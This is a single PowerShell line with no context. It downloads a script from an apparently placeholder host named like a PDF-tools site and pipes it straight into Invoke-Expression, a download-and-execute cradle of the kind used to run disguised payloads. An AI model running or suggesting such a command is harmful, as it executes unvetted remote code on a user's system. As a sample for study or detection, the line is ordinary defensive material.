Invoke-WebRequest https://pdf-tools.example/x.ps1 -UseBasicParsing | Invoke-Expression
